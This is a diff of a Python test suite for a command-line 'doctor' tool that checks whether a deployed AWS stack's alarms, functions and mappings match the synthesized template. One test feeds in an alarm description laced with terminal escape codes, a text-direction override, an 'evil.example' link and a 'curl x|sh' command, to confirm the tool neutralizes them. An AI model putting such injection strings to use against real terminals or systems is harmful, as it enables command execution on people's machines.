@@ -33,6 +33,7 @@ from operate.doctor.__main__ import main
 from operate.doctor.checks import CHECKS, RING
 from operate.doctor.findings import warning
 from operate.doctor.show import show
+from operate.doctor.template import HELD
 from tests.answers import REGION, Answer, Answers
 from tests.catalogue import compile_plan
 from tests.records import unreachable
@@ -43,6 +44,7 @@ HERE = f"arn:aws:{{}}:{REGION}:111122223333"
 ROLE = "arn:aws:iam::111122223333:role/Jobwatch-PollingPollRole"
 TABLE = f"{HERE.format('dynamodb')}:table/seen"
 ALERTS, ALARMS = f"{HERE.format('sns')}:alerts", f"{HERE.format('sns')}:alarms"
+STACK_ID = f"{HERE.format('cloudformation')}:stack/Jobwatch/0f"
 QUEUE = f"{HERE.format('sqs')}:inbox"
 WATCHES = """\
 watches:
@@ -85,8 +87,41 @@ SILENT = alarm(
     Statistic="SampleCount",
     Period=300,
     EvaluationPeriods=3,
+    Threshold=1.0,
+    ComparisonOperator="LessThanThreshold",
+    TreatMissingData="breaching",
     Dimensions=[{"Name": "every", "Value": "60"}, {"Name": "service", "Value": "Jobwatch"}],
 )
+
+
+TEMPLATE = {
+    "Resources": {
+        "silent": {
+            "Type": "AWS::CloudWatch::Alarm",
+            "Properties": {
+                "AlarmDescription": SILENT["AlarmDescription"],
+                "Namespace": "Jobwatch",
+                "MetricName": "AgeOfLastRead",
+                "Statistic": "SampleCount",
+                "Period": 300,
+                "EvaluationPeriods": 3,
+                "Threshold": 1,
+                "ComparisonOperator": "LessThanThreshold",
+                "TreatMissingData": "breaching",
+                "Dimensions": [
+                    {"Name": "service", "Value": "Jobwatch"},
+                    {"Name": "every", "Value": "60"},
+                ],
+            },
+        }
+    }
+}
+"""A stack of an alarm, as it is synthesized."""
+
+
+def described(call: Mapping[str, Any]) -> dict[str, Any]:
+    names = call["AlarmNames"]
+    return {"MetricAlarms": [SILENT if name == "silent" else alarm(name) for name in names]}
 
 
 def resources(**types: str) -> dict[str, Any]:
@@ -107,6 +142,7 @@ def resources(**types: str) -> dict[str, Any]:
 def stack(status: str = "CREATE_COMPLETE", outputs: Mapping[str, str] = OUTPUTS) -> Answer:
     described = {
         "StackName": "Jobwatch",
+        "StackId": STACK_ID,
         "CreationTime": datetime.now(UTC),
         "StackStatus": status,
         "Outputs": [{"OutputKey": k, "OutputValue": v} for k, v in outputs.items()],
@@ -230,7 +266,7 @@ WELL: Mapping[str, Answer] = {
     "dynamodbstreams:DescribeStream": shards(4),
     "dynamodb:Query": {"Items": []},
     "sqs:GetQueueAttributes": waiting(),
-    "cloudwatch:DescribeAlarms": {"MetricAlarms": [SILENT]},
+    "cloudwatch:DescribeAlarms": described,
     "cloudwatch:GetMetricData": ages(0),
     "cloudwatch:ListAlarmMuteRules": {"AlarmMuteRuleSummaries": []},
     "events:ListArchives": archived(),
@@ -264,6 +300,7 @@ class Doctor:
         self.watches, self.aws = watches, aws
         self.deployed: bytes | Exception | Mapping[str, bytes] = deployed
         self.built: Path | Exception = built
+        self.template: Mapping[str, Any] = TEMPLATE
         self.fetched: list[str] = []
         self.code: int | None = None
         self._capsys = capsys
@@ -271,8 +308,12 @@ class Doctor:
     def run(self, *words: str) -> str:
         """Run the command; give what it printed."""
         given = ["--watches", str(self.watches), *words]
-        self.code = main(given, self.aws, self._fetch, self._build)
+        self.code = main(given, self.aws, self._fetch, self._build, self._synthesize)
         return self._capsys.readouterr().out
+
+    def _synthesize(self, _: Compiled, name: str) -> Mapping[str, Any]:
+        assert name in {"Jobwatch", "Staging"}
+        return self.template
 
     def _build(self, compiled: Compiled) -> Path:
         """Build what `zipped` packs; the functions and what they need are there already."""
@@ -409,9 +450,17 @@ def test_the_runbook_shows_what_it_says(doctor: Doctor) -> None:
     file.write_text(re.sub(r"  data-exchange-jobs:\n.*\n", "", older), encoding="utf-8")
     doctor.deployed = zipped(file)
     file.write_text(shipped.replace("# email:", "email:"), encoding="utf-8")
+    names = [f"alarm{number}" for number in range(8)]
+    nine = {
+        name: {
+            "Type": "AWS::CloudWatch::Alarm",
+            "Properties": {"AlarmDescription": alarm(name)["AlarmDescription"]},
+        }
+        for name in names
+    }
+    doctor.template = {"Resources": TEMPLATE["Resources"] | nine}
     asleep = {"UUID": "14e0db71-5d35-4eb5-b481-8945cf9d10c2", "State": "Disabled"}
     pending = subscribed("ops@example.com", arn="PendingConfirmation")
-    names = [f"alarm{number}" for number in range(8)]
     doctor.aws.answers |= {
         "sts:GetCallerIdentity": {
             "Account": "111122223333",
@@ -420,9 +469,8 @@ def test_the_runbook_shows_what_it_says(doctor: Doctor) -> None:
         "cloudformation:DescribeStacks": stack("UPDATE_COMPLETE"),
         "cloudformation:ListStackResources": resources(
             **dict.fromkeys(("clock", "Heartbeat"), "AWS_Scheduler_Schedule"),
-            silent="AWS_CloudWatch_Alarm",
+            **dict.fromkeys(("silent", *names), "AWS_CloudWatch_Alarm"),
         ),
-        "cloudwatch:DescribeAlarms": {"MetricAlarms": [SILENT, *map(alarm, names)]},
         "lambda:GetAccountSettings": NO_ACCOUNT,
         "lambda:ListEventSourceMappings": lambda call: mappings(
             call, **(asleep if call["FunctionName"] == "alert" else {})
@@ -670,7 +718,9 @@ ONE: dict[str, tuple[dict[str, Answer], str, str, str]] = {
     ),
     "the heartbeat's schedule that is off": (
         {
-            "cloudformation__ListStackResources": resources(Heartbeat="AWS_Scheduler_Schedule"),
+            "cloudformation__ListStackResources": resources(
+                Heartbeat="AWS_Scheduler_Schedule", silent="AWS_CloudWatch_Alarm"
+            ),
             "scheduler__GetSchedule": {"State": "DISABLED"},
         },
         *("schedules: wrong", "Heartbeat is disabled: no heartbeat is written", "enable it"),
@@ -1347,12 +1397,262 @@ def test_a_stranger_s_text_does_nothing_to_the_terminal(doctor: Doctor) -> None:
     assert doctor.faults(**answers)[0][2] == "an item of the table can't be read"
 
 
+def test_an_alarm_that_is_gone_is_wrong(doctor: Doctor) -> None:
+    name, mark, what, do = doctor.fault(cloudwatch__DescribeAlarms={"MetricAlarms": []})
+    assert (name, mark) == ("alarms", "wrong")
+    assert what == "silent is gone: what it should tell, nothing tells"
+    assert do.startswith("make deploy ARGS=--revert-drift; ")
+    assert doctor.code == 1
+
+
+OVERWRITTEN: dict[str, tuple[dict[str, Any], str]] = {
+    "another metric": ({"MetricName": "Jobs"}, "MetricName"),
+    "another dimension": ({"Dimensions": [SILENT["Dimensions"][0]]}, "Dimensions"),
+    "another threshold": ({"Threshold": -1.0}, "Threshold"),
+    "another comparison": ({"ComparisonOperator": "GreaterThanThreshold"}, "ComparisonOperator"),
+    "what silence means": ({"TreatMissingData": "ignore"}, "TreatMissingData"),
+    "fewer points": ({"DatapointsToAlarm": 1}, "DatapointsToAlarm"),
+    "metric math": (
+        {"Metrics": [{"Id": "a", "Expression": "0"}], "Period": 60},
+        "Metrics, Period",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", OVERWRITTEN.values(), ids=OVERWRITTEN)
+def test_an_alarm_that_was_overwritten_is_wrong(
+    doctor: Doctor, case: tuple[dict[str, Any], str]
+) -> None:
+    fields, named = case
+    answer = {"MetricAlarms": [{**SILENT, **fields}]}
+    name, mark, what, do = doctor.fault(cloudwatch__DescribeAlarms=answer)
+    assert (name, mark) == ("template", "wrong")
+    assert what == f"the alarm silent is not as this folder synthesizes it: {named}"
+    assert do.endswith("docs/runbook.md#what-is-not-as-it-was-deployed")
+
+
+def test_as_many_points_as_periods_are_what_an_alarm_takes_that_names_none(doctor: Doctor) -> None:
+    answer = {"MetricAlarms": [{**SILENT, "DatapointsToAlarm": 3, "Metrics": []}]}
+    assert doctor.faults(cloudwatch__DescribeAlarms=answer) == []
+
+
+def test_what_decides_when_an_alarm_rings_is_all_held() -> None:
+    """Whoever bumps botocore decides of what is new in an alarm."""
+    held = {*HELD["AWS::CloudWatch::Alarm"].properties}
+    shape = botocore.session.Session().get_service_model("cloudwatch").shape_for("MetricAlarm")
+    others = {name for name in shape.members if name not in held}
+    assert others == {
+        *("AlarmName", "AlarmArn", "AlarmConfigurationUpdatedTimestamp"),
+        *("ActionsEnabled", "OKActions", "AlarmActions", "InsufficientDataActions"),
+        *("ActionConfiguration", "EvaluationState", "StateTransitionedTimestamp"),
+        *("StateValue", "StateReason", "StateReasonData", "StateUpdatedTimestamp"),
+    }
+    assert held <= shape.members.keys()
+
+
+def test_an_alarm_that_is_not_deployed_yet_is_a_warning_and_its_polls_are_not_missed(
+    doctor: Doctor,
+) -> None:
+    clock = resources(clock="AWS_Scheduler_Schedule")
+    found = doctor.look(
+        cloudformation__ListStackResources=clock, cloudwatch__GetMetricData=ages(None)
+    )
+    assert [each for each in found if each[1] != "ok"] == [
+        ("template", "warning", "not deployed: silent", "make deploy")
+    ]
+
+
+def test_the_cadences_are_those_of_the_plan_whatever_alarms_are_there(doctor: Doctor) -> None:
+    faults = doctor.faults(
+        cloudwatch__DescribeAlarms={"MetricAlarms": []}, cloudwatch__GetMetricData=ages(None)
+    )
+    assert {each[:2] for each in faults} == {("polls", "wrong"), ("alarms", "wrong")}
+
+
+class Deployed:
+    """The stack that is synthesized, as AWS has it; `functions` and `filters` can be changed."""
+
+    def __init__(self) -> None:
+        self.template = template()
+        made = self.template["Resources"]
+        self.ids = {name: _id(name, each["Type"]) for name, each in made.items()}
+        self.functions = {
+            self.ids[name]: {
+                "Handler": properties["Handler"],
+                "Runtime": properties["Runtime"],
+                "Role": "arn:aws:iam::111122223333:role/"
+                + self.ids[properties["Role"]["Fn::GetAtt"][0]],
+                "Environment": {
+                    "Variables": {
+                        key: self._value(each)
+                        for key, each in properties["Environment"]["Variables"].items()
+                    }
+                },
+            }
+            for name, properties in of_type("AWS::Lambda::Function", self.template).items()
+        }
+        self.filters = {
+            self.ids[name]: properties.get("FilterCriteria")
+            for name, properties in of_type("AWS::Lambda::EventSourceMapping").items()
+        }
+
+    def _value(self, value: Any) -> str:
+        match value:
+            case {"Ref": name}:
+                return self.ids[name]
+            case {"Fn::GetAtt": [name, "Arn"]}:
+                return f"{HERE.format('dynamodb')}:table/{self.ids[name]}"
+            case {"Fn::Select": _}:
+                return "0f"
+        return str(value)
+
+    def answers(self) -> dict[str, Answer]:
+        made = self.template["Resources"].items()
+        types = {name: each["Type"].replace("::", "_") for name, each in made}
+        listed = resources(**types)
+        for each in listed["StackResourceSummaries"]:
+            each["PhysicalResourceId"] = self.ids[each["LogicalResourceId"]]
+        names = {
+            name: next(i for i in self.functions if name in i.lower())
+            for name in ("tick", "poll", "publish", "alert")
+        }
+        outputs = {f"{name.capitalize()}FunctionName": id_ for name, id_ in names.items()}
+        alarms = [
+            alarm(self.ids[name], **{**each, "Dimensions": self._dimensions(each)})
+            for name, each in of_type("AWS::CloudWatch::Alarm", self.template).items()
+        ]
+        return {
+            "cloudformation__DescribeStacks": stack(outputs={**OUTPUTS, **outputs}),
+            "cloudformation__ListStackResources": listed,
+            "cloudwatch__DescribeAlarms": {
+                "MetricAlarms": [{**each, "AlarmActions": [ALARMS]} for each in alarms]
+            },
+            "lambda__GetFunctionConfiguration": lambda call: {
+                "State": "Active",
+                **self.functions[call["FunctionName"]],
+            },
+            "lambda__ListEventSourceMappings": self._mappings,
+        }
+
+    def _dimensions(self, properties: Mapping[str, Any]) -> list[dict[str, str]]:
+        found = []
+        for each in properties["Dimensions"]:
+            value = each["Value"]
+            if "Fn::GetAtt" in value:
+                value = value["Fn::GetAtt"][0].lower()
+            elif "Ref" in value:
+                value = self.ids[value["Ref"]]
+            found.append({"Name": each["Name"], "Value": value})
+        return found
+
+    def _mappings(self, call: Mapping[str, Any]) -> dict[str, Any]:
+        found = []
+        for name, each in of_type("AWS::Lambda::EventSourceMapping").items():
+            if self.ids[each["FunctionName"]["Ref"]] == call["FunctionName"]:
+                id_ = self.ids[name]
+                source = f"{TABLE}/stream/now" if self.filters[id_] else f"{HERE.format('sqs')}:q"
+                given = {"FilterCriteria": self.filters[id_]} if self.filters[id_] else {}
+                found.append({"UUID": id_, "EventSourceArn": source, "State": "Enabled", **given})
+        return {"EventSourceMappings": found}
+
+
+def _id(name: str, kind: str) -> str:
+    """An id as AWS gives it: a queue's is its URL, a topic's its ARN."""
+    if kind == "AWS::Lambda::EventSourceMapping":
+        return f"{name:0<36}"
+    if kind == "AWS::SQS::Queue":
+        return f"https://sqs.test/111122223333/{name.lower()}"
+    return f"{HERE.format('sns')}:{name.lower()}" if kind == "AWS::SNS::Topic" else f"id-{name}"
+
+
+@pytest.fixture
+def stack_of_today(doctor: Doctor) -> Deployed:
+    deployed = Deployed()
+    doctor.template = deployed.template
+    return deployed
+
+
+def told_of_the_template(doctor: Doctor, deployed: Deployed) -> list[tuple[str, str]]:
+    found = doctor.look(**deployed.answers())
+    return [(mark, what) for name, mark, what, _ in found if name == "template"]
+
+
+def test_what_is_deployed_as_it_is_synthesized_is_well(
+    doctor: Doctor, stack_of_today: Deployed
+) -> None:
+    alarms = len(of_type("AWS::CloudWatch::Alarm"))
+    assert told_of_the_template(doctor, stack_of_today) == [
+        (
+            "ok",
+            f"as this folder synthesizes it: {alarms} alarms, 4 functions and 3 mappings",
+        )
+    ]
+
+
+TAKEN_OVER: dict[str, tuple[dict[str, Any], str]] = {
+    "a layer": ({"Layers": [{"Arn": "arn:aws:lambda:eu-west-1:999999999999:layer:x:1"}]}, "Layers"),
+    "a handler": ({"Handler": "botocore.x"}, "Handler"),
+    "a runtime": ({"Runtime": "python3.9"}, "Runtime"),
+    "a role": ({"Role": "arn:aws:iam::111122223333:role/admin"}, "Role"),
+    "a file system": (
+        {
+            "FileSystemConfigs": [
+                {
+                    "Arn": f"{HERE.format('elasticfilesystem')}:access-point/a",
+                    "LocalMountPath": "/mnt/x",
+                }
+            ]
+        },
+        "FileSystemConfigs",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", TAKEN_OVER.values(), ids=TAKEN_OVER)
+def test_a_function_that_runs_otherwise_than_it_is_synthesized_is_wrong(
+    doctor: Doctor, stack_of_today: Deployed, case: tuple[dict[str, Any], str]
+) -> None:
+    fields, named = case
+    name = next(iter(stack_of_today.functions))
+    stack_of_today.functions[name] |= fields
+    assert told_of_the_template(doctor, stack_of_today) == [
+        ("wrong", f"the function {name} is not as this folder synthesizes it: {named}")
+    ]
+
+
+def test_variables_of_a_function_are_held_and_none_is_told_by_its_value(
+    doctor: Doctor, stack_of_today: Deployed
+) -> None:
+    name = next(name for name in stack_of_today.functions if "Publish" in name)
+    variables = stack_of_today.functions[name]["Environment"]["Variables"]
+    variables |= {"PYTHONPATH": "/opt/secret", "EVENT_BUS_NAME": "secret"}
+    ((mark, what),) = told_of_the_template(doctor, stack_of_today)
+    assert mark == "wrong"
+    assert what.endswith(
+        "it: Environment.Variables.EVENT_BUS_NAME, Environment.Variables.PYTHONPATH"
+    )
+
+
+def test_a_filter_that_lets_the_heartbeat_through_alone_is_wrong(
+    doctor: Doctor, stack_of_today: Deployed
+) -> None:
+    name = next(name for name, each in stack_of_today.filters.items() if each)
+    heartbeat = stack_of_today.filters[name]["Filters"][-1]
+    stack_of_today.filters[name] = {"Filters": [heartbeat]}
+    assert told_of_the_template(doctor, stack_of_today) == [
+        (
+            "wrong",
+            f"the mapping {name} is not as this folder synthesizes it: FilterCriteria.Filters",
+        )
+    ]
+
+
 def test_the_words_of_an_alarm_that_is_not_ours_are_no_advice(doctor: Doctor) -> None:
     """Who may put alarms writes their descriptions."""
     said = "Jobwatch: a\x1b[2J\u202eb https://evil.example/ See \x1b]0;docs/runbook.md#a; curl x|sh"
     ringing = {**SILENT, "StateValue": "ALARM", "AlarmDescription": said}
     answers = {"cloudwatch__DescribeAlarms": {"MetricAlarms": [ringing]}}
-    (_, _, what, do) = doctor.fault(**answers)
+    (_, (_, _, what, do)) = doctor.faults(**answers)
     assert "hxxps://evil[.]example/" in what
     assert do == "docs/runbook.md"
     for words in ([], ["--json"]):
@@ -1459,7 +1759,8 @@ def test_rules_that_mute_alarms_of_the_stack_are_named_and_those_of_others_are_n
     }
     faults = doctor.faults(
         cloudformation__ListStackResources=resources(
-            clock="AWS_Scheduler_Schedule", **dict.fromkeys(names, "AWS_CloudWatch_Alarm")
+            clock="AWS_Scheduler_Schedule",
+            **dict.fromkeys((*names, "silent"), "AWS_CloudWatch_Alarm"),
         ),
         cloudwatch__ListAlarmMuteRules=muting(rules),
     )
@@ -1511,7 +1812,7 @@ def test_the_lines_fit_a_hundred_columns_and_say_what_they_came_to(doctor: Docto
     assert lines[at + 1] == (
         "                 enable-alarm-actions --alarm-names silent, or make deploy"
     )
-    assert lines[-1] == "20 ok, 1 warning, 1 wrong, 1 could not look"
+    assert lines[-1] == "21 ok, 1 warning, 1 wrong, 1 could not look"
 
 
 def test_the_words_are_those_of_the_other_commands(doctor: Doctor) -> None:
